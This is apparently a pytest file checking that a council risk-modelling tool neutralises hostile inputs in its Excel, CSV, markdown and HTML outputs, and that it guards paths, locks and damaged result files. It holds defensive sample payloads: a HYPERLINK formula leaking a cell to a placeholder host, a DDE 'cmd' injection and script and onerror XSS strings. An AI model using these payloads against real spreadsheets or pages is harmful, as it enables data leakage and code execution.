"""A hostile or careless config cannot reach outside --out, run code in a reader's Excel or browser, or
make a resumed run trust damaged files. The one-line refusals are catalogued in test_bad_inputs.py;
this file checks what the outputs hold and what is left on disk."""
import copy
import csv
import json
import re
import resource
import shutil
import signal
import subprocess
import sys
import time
import zipfile

import openpyxl
import pytest
import yaml

from fsp_risk.app import cli
from fsp_risk.errors import RunError

CONFIG = "configs/oxfordshire-2024-commissioning.yaml"
CONFIG_2019 = "configs/oxfordshire-2019-business-case.yaml"
BASE = yaml.safe_load(open(CONFIG, encoding="utf-8"))

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
HOSTILE = {
    "title": "<script>alert('title')</script> costs $x^2$",
    "council": "<img src=x onerror=alert(1)>",
    "risk_title": FORMULA,
    "risk_owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "input_title": "+1+1 [click](javascript:alert(1))",
    "input_source": "-2+3 # not a heading\n\n<script>alert(2)</script>",
    "scenario_title": "\t=1+2 $\\notacommand{b}$ <b>bold</b>",
}


def hostile_config(tmp_path):
    data = copy.deepcopy(BASE)
    data["title"], data["council"] = HOSTILE["title"], HOSTILE["council"]
    risk = data["risk_register"]["risks"][0]
    risk["title"], risk["owner"] = HOSTILE["risk_title"], HOSTILE["risk_owner"]
    top = data["inputs"]["demand_growth_multiplier"]
    top["title"], top["source"] = HOSTILE["input_title"], HOSTILE["input_source"]
    data["scenarios"]["grant_lost"]["title"] = HOSTILE["scenario_title"]
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    out = tmp / "out"
    assert cli.main(["run", str(hostile_config(tmp)), "--iterations", "2000", "--out", str(out)]) == 0
    (folder,) = [p for p in out.iterdir() if not p.name.startswith(".")]
    return folder


def test_no_workbook_cell_is_a_formula(hostile_run):
    book = openpyxl.load_workbook(hostile_run / "summary.xlsx")
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # The hostile texts are there, as text, each as typed.
    assert FORMULA in texts and HOSTILE["risk_owner"] in texts
    with zipfile.ZipFile(hostile_run / "summary.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name


def test_no_csv_field_starts_like_a_formula(hostile_run):
    files = sorted(hostile_run.glob("*.csv"))
    assert {"risk_register.csv", "scenarios.csv", "sensitivity.csv"} <= {f.name for f in files}
    seen = set()
    for f in files:
        with open(f, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for field in row:
                    seen.add(field)
                    if field.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(field)  # only a number may start with '-' or '+'
    # OWASP's neutralisation: a leading apostrophe, the text otherwise as typed.
    assert "'" + FORMULA in seen and "'" + HOSTILE["risk_owner"] in seen
    assert "'" + HOSTILE["scenario_title"].strip() in seen  # texts are read stripped


def test_findings_and_report_carry_no_live_markup(hostile_run):
    findings = (hostile_run / "findings.md").read_text(encoding="utf-8")
    # No tag, link or heading that a markdown renderer would act on: each '<', '[' and ']' escaped.
    assert not re.search(r"(?<!\\)[<\[\]]", findings), re.search(r".{20}(?<!\\)[<\[\]].{20}", findings)
    assert "\n# not a heading" not in findings
    assert r"\<script\>alert('title')\</script\>" in findings  # shown as typed when rendered
    assert "\\<img src=x onerror=alert(1)\\>" in findings
    page = (hostile_run / "report.html").read_text(encoding="utf-8")
    assert "<script" not in page and "<img src=x" not in page and "<b>bold" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_tex_like_titles_are_drawn_as_typed(hostile_run, tmp_path):
    # The run finished (the fixture) with '$\notacommand{b}$' in a scenario title, which matplotlib's
    # mathtext cannot parse; drawn as typed, it is simply text.
    assert (hostile_run / "charts" / "scenarios.png").is_file()
    import matplotlib.pyplot as plt

    from fsp_risk.outputs.plots import save_figure

    fig, ax = plt.subplots()
    ax.set_title(r"Costs $\notacommand{x}$ and more")
    save_figure(fig, tmp_path, "t")
    assert (tmp_path / "t.png").stat().st_size > 0


# ----------------------------------------------------------------------- paths stay inside --out
def test_a_partial_folder_linked_outside_out_is_refused(tmp_path, capsys):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / ".partial").symlink_to(elsewhere)
    assert cli.main(["run", CONFIG_2019, "--iterations", "100", "--out", str(out)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith(f"fsp-risk: error: {out}: --out: refused to write ") and "outside" in err, err
    assert list(elsewhere.iterdir()) == []


# ----------------------------------------------------------------------- leftovers and signals
def test_leftovers_of_killed_runs_are_cleaned_by_the_next_run(tmp_path):
    out = tmp_path / "out"
    dead = _dead_pid()
    (out / f".tmp-oxfordshire-2019-business-case-20260101T000000Z-seed1-{dead}").mkdir(parents=True)
    (out / ".partial").mkdir()
    (out / ".partial" / "other-config-0123456789ab.lock").write_text(str(dead))
    assert cli.main(["run", CONFIG_2019, "--deterministic", "--out", str(out)]) == 0
    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []  # .partial gone too, once empty


def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid  # finished and reaped: no process has this id now (until the system reuses it)


def test_the_run_lock_is_held_across_processes(tmp_path):
    from fsp_risk.app.partial import PartialRun

    key = {"config_sha256": "abc", "seed": 1, "iterations": 10}
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys, time; from fsp_risk.app.partial import PartialRun\n"
         f"p = PartialRun({str(tmp_path)!r}, 'demo', {key!r})\n"
         "with p.lock():\n    print('held', flush=True); time.sleep(60)"],
        stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(RunError, match=rf"another fsp-risk run of this config, seed and iterations is working "
                                              rf"\(process {holder.pid}\)"):
            with PartialRun(tmp_path, "demo", key).lock():
                pass
        holder.kill()  # killed while holding it: the kernel frees the lock
        holder.wait()
        with PartialRun(tmp_path, "demo", key).lock():
            pass
    finally:
        holder.kill()


def test_sigterm_is_handled_as_ctrl_c(tmp_path):
    out = tmp_path / "outputs"
    args = ["run", CONFIG_2019, "--iterations", str(4 * 65_536), "--seed", "3", "--workers", "1", "--out", str(out)]
    proc = subprocess.Popen([sys.executable, "-m", "fsp_risk.app.cli", *args], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 300
    while not list(out.glob(".partial/*/results.nc")) or not _kept(out):
        assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    _, stderr = proc.communicate(timeout=120)
    assert proc.returncode == 143, stderr
    assert "fsp-risk: terminated (SIGTERM); no run folder was written" in stderr and "Traceback" not in stderr
    assert "run the same command with --resume to continue from them" in stderr
    assert [p.name for p in out.iterdir()] == [".partial"]  # kept blocks; no run folder, no temporary folder
    assert not list(out.glob(".partial/*.lock"))


def _kept(out) -> bool:
    for record in out.glob(".partial/*/progress.json"):
        try:
            return bool(json.loads(record.read_text())["results"])
        except (OSError, ValueError):
            return False
    return False


# ----------------------------------------------------------------------- report and compare check their files
@pytest.fixture(scope="module")
def two_runs(tmp_path_factory):
    out = tmp_path_factory.mktemp("two")
    for seed in ("1", "2"):
        assert cli.main(["run", CONFIG_2019, "--iterations", "500", "--seed", seed, "--out", str(out),
                         "--keep", "all"]) == 0
    return sorted(out.iterdir())


def test_report_refuses_a_results_file_from_another_run(two_runs, tmp_path, capsys):
    a, b = two_runs
    mixed = tmp_path / "mixed"
    shutil.copytree(a, mixed)
    shutil.copy(b / "results.nc", mixed / "results.nc")
    assert cli.main(["report", str(mixed)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith(f"fsp-risk: error: {mixed / 'run.json'}: run.json belongs to run ") and err.count("\n") == 0
    assert "expected the files of one run folder, as 'fsp-risk run' wrote them" in err
    (mixed / "run.json").unlink()  # without the record, detail.nc and scenarios.nc still name their run
    assert cli.main(["report", str(mixed)]) == 2
    assert f"{mixed / 'scenarios.nc'}: scenarios.nc belongs to run" in capsys.readouterr().err
    assert cli.main(["compare", str(a), str(mixed), "--out", str(tmp_path / "c")]) == 2
    (mixed / "scenarios.nc").unlink()
    assert cli.main(["report", str(mixed)]) == 2
    assert f"{mixed / 'detail.nc'}: detail.nc belongs to run" in capsys.readouterr().err
    (mixed / "detail.nc").unlink()  # and analysis.nc too
    assert cli.main(["report", str(mixed)]) == 2
    assert f"{mixed / 'analysis.nc'}: analysis.nc belongs to run" in capsys.readouterr().err


def test_report_says_cannot_read_for_a_damaged_results_file(two_runs, tmp_path, capsys):
    damaged = tmp_path / "damaged"
    shutil.copytree(two_runs[0], damaged)
    data = (damaged / "results.nc").read_bytes()
    (damaged / "results.nc").write_bytes(data[: len(data) // 3])  # cut short, as by a copy that failed
    before = sorted(p.name for p in damaged.iterdir())
    assert cli.main(["report", str(damaged)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith(f"fsp-risk: error: {damaged / 'results.nc'}: cannot read results.nc (") and "\n" not in err
    assert sorted(p.name for p in damaged.iterdir()) == before


def test_report_rebuilds_a_run_that_imported_a_register_csv(tmp_path, capsys):
    data = copy.deepcopy(yaml.safe_load(open(CONFIG_2019, encoding="utf-8")))
    data["risk_register"]["import_csv"] = {
        "file": "register.csv", "likelihood_bands": [[0, 0.05], [0.05, 0.2], [0.2, 0.5], [0.5, 0.8], [0.8, 1.0]],
        "impact_bands": [[0, 1e4], [1e4, 5e4], [5e4, 2.5e5], [2.5e5, 5e5], [5e5, 1e6]],
        "source": "test council register", "date": "2019-07-16", "review": "2020-07-16"}
    (tmp_path / "register.csv").write_text("id,title,owner,likelihood,impact\nC1,Grant ends,FBP,4,3\n")
    config = tmp_path / "imported.yaml"
    config.write_text(yaml.safe_dump(data, sort_keys=False))
    out = tmp_path / "out"
    assert cli.main(["run", str(config), "--deterministic", "--out", str(out)]) == 0
    (run,) = out.iterdir()
    before = (run / "risk_register.csv").read_bytes()
    (tmp_path / "register.csv").unlink()  # the report works from what was run, not from the file now
    assert cli.main(["report", str(run)]) == 0
    assert (run / "risk_register.csv").read_bytes() == before
    assert "C1" in before.decode()


# ----------------------------------------------------------------------- a disk that fills mid-run
def test_a_disk_full_mid_run_says_so_in_one_line(tmp_path):
    out = tmp_path / "outputs"
    args = ["run", CONFIG_2019, "--iterations", str(65_536), "--seed", "3", "--out", str(out)]

    def small_disk():  # files may not grow past 20 MB: one block of results is larger than that
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000_000, 20_000_000))

    proc = subprocess.run([sys.executable, "-m", "fsp_risk.app.cli", *args], capture_output=True, text=True,
                          preexec_fn=small_disk, timeout=600)
    assert proc.returncode == 1, proc.stderr
    last = proc.stderr.strip().splitlines()[-1]
    assert last.startswith("fsp-risk: error: cannot write outputs: ") and "Traceback" not in proc.stderr, proc.stderr
    assert "results" in last or "scenarios" in last, last
    assert not [p for p in out.iterdir() if not p.name.startswith(".partial")]  # no run folder, no temporary one


def test_compare_md_escapes_folder_names(two_runs, tmp_path, capsys):
    a, b = two_runs
    hostile = tmp_path / "run <img src=x onerror=alert(1)> [x](javascript:y)"
    shutil.copytree(b, hostile)
    out = tmp_path / "c"
    assert cli.main(["compare", str(a), str(hostile), "--out", str(out)]) == 0
    (folder,) = out.iterdir()
    text = (folder / "compare.md").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)[<\[\]]", text), text[:300]
    assert "\\<img src=x onerror=alert(1)\\>" in text
    with open(folder / "compare.csv", newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh):
            for field in row:
                if field[:1] in ("=", "+", "-", "@"):
                    float(field)


def test_report_never_writes_through_a_charts_link(two_runs, tmp_path):
    run, elsewhere = tmp_path / "run", tmp_path / "elsewhere"
    shutil.copytree(two_runs[0], run)
    elsewhere.mkdir()
    shutil.rmtree(run / "charts")
    (run / "charts").symlink_to(elsewhere)
    assert cli.main(["report", str(run)]) == 0
    assert list(elsewhere.iterdir()) == []
    assert (run / "charts").is_dir() and not (run / "charts").is_symlink()
    assert (run / "charts" / "net_savings_fan.png").is_file()


@pytest.mark.parametrize("attr, value, message", [
    ("seed", "1<img src=x>", "its seed attribute is not one fsp-risk writes"),
    ("sampler", "x", "its sampler attribute is not one fsp-risk writes"),
    ("config_attachments", "{not json", "its config_attachments attribute is not one fsp-risk writes"),
    ("config_attachments", "[1, 2]", "its config_attachments attribute is not one fsp-risk writes"),
    ("iterations", 7, "it holds 500 iterations but says 7"),
    ("results_format", "3", "results.nc is in results format 3"),
])
def test_report_refuses_results_with_edited_attributes(two_runs, tmp_path, capsys, attr, value, message):
    from fsp_risk.app.folders import add_attrs

    run = tmp_path / "run"
    shutil.copytree(two_runs[0], run)
    add_attrs(run / "results.nc", {attr: value})
    assert cli.main(["report", str(run)]) == 2
    err = capsys.readouterr().err.strip()
    assert message in err and "\n" not in err and "Traceback" not in err, err


def test_report_refuses_results_holding_nan(two_runs, tmp_path, capsys):
    import netCDF4

    run = tmp_path / "run"
    shutil.copytree(two_runs[0], run)
    with netCDF4.Dataset(run / "results.nc", "a") as nc:
        nc["net_change_to_mtfp"][3, 1] = float("nan")
    assert cli.main(["report", str(run)]) == 2
    assert "holds a value that is not a finite number" in capsys.readouterr().err


def test_sums_near_the_ceilings_keep_their_lines(tmp_path):
    # Every field at or near its ceiling: the net change reaches £1e17 and still equals the sum of its lines
    # (a relative tolerance: a penny is below float64's resolution there).
    data = yaml.safe_load(open(CONFIG, encoding="utf-8"))
    for name, value in (("contract_cost_outturn", 100), ("mental_health_cost_outturn", 100), ("sw_fte", 1e7),
                        ("sw_cost_per_fte", 1e10), ("sw_agency_premium", 100)):
        keep = {k: data["inputs"][name][k] for k in ("title", "units", "source", "owner", "evidence", "date", "review")}
        data["inputs"][name] = {**keep, "dist": "fixed", "value": value}
    path = tmp_path / "big.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    assert cli.main(["run", str(path), "--iterations", "500", "--out", str(tmp_path / "out")]) == 0
